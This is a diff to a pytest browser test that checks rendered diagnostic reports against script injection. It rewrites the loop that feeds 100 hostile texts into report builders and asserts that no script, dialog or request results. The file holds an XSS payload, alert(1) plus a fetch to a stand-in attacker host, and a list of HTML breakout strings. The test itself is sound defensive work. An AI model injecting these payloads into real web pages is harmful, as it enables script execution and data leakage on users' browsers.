@@ -2,13 +2,13 @@
 
 from __future__ import annotations
 
-from itertools import product
+from itertools import cycle, product
 
 import pytest
 
 from tests.browser.cases import AUDIENCES
 from tests.browser.conftest import Open, html
-from tests.reports.samples import everywhere, permission_denied
+from tests.reports.samples import permission_denied, scattered
 
 _RUN = "window.ran=1;alert(1);fetch('https://evil.example/')"
 _BREAKS = ("", '">', "'>", "</title>", "</style>", "</script>", "--></pre>", "</textarea>", "]]>", "</svg></math>")
@@ -32,9 +32,10 @@ def test_a_hundred_hostile_texts_run_open_and_ask_for_nothing(show: Open, audien
     assert len(PAYLOADS) == 100
     page, watch = show("<!DOCTYPE html><title>start</title>")
 
-    for number, payload in enumerate(PAYLOADS):
-        diagnosis = everywhere(payload) if number % 2 else permission_denied(payload)
-        page.set_content(html(diagnosis, audience, verbose=True))
-        assert page.evaluate("window.ran") is None, payload
+    for number in range(0, len(PAYLOADS), len(_TAGS)):
+        texts = cycle(PAYLOADS[number : number + len(_TAGS)])
+        for diagnosis in (scattered(texts), permission_denied(next(texts))):
+            page.set_content(html(diagnosis, audience, verbose=True))
+            assert page.evaluate("window.ran") is None, number
 
     assert (watch.dialogs, watch.requests, watch.console) == ([], [], [])
